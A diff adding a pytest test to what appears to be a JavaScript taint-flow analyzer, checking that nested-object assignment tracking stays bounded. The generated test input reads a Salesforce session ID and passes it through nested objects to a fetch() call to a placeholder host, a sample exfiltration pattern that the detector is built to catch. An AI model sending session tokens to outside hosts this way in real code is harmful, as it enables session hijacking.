@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -81,6 +83,28 @@ def test_a_long_chain_of_session_reads_is_read_once_not_once_per_link(monkeypatc
         assert [s.text for s in ir.sources] == ["conn.sessionId"]
         counts.append(reads)
     assert counts[1] < 2.5 * counts[0], counts
+
+
+def test_an_assignment_updates_the_objects_above_it_a_bounded_number_of_levels(monkeypatch: pytest.MonkeyPatch) -> None:
+    """`opts.headers.Authorization = sid` reaches `fetch(url, opts)` (fixture nestedHeaders), by
+    updating each object the name is a part of. A script of ever longer chains (`x.a.a...a = …`,
+    hundreds of names) climbed every level at every assignment: minutes for a few thousand. Names
+    longer than a few parts update their parent only, as before."""
+    from apexlint.lower import js_flow
+    calls = 0
+    original = js_flow._with_path
+
+    def counted(*args: Any) -> Any:
+        nonlocal calls
+        calls += 1
+        return original(*args)
+
+    monkeypatch.setattr(js_flow, "_with_path", counted)
+    links = 200
+    lines = ["var sid = sforce.connection.sessionId;", "var x = {a: {}};"]
+    lines += ["x" + ".a" * k + " = {a: {s: sid}};" for k in range(1, links)]
+    lower("\n".join(lines) + "\nfetch('https://p.example.com/x', x);\n")
+    assert 0 < calls < 20 * links  # every level of each: 20,000
 
 
 def test_session_destructured_out_of_the_connection_is_a_source_and_flows_on() -> None:
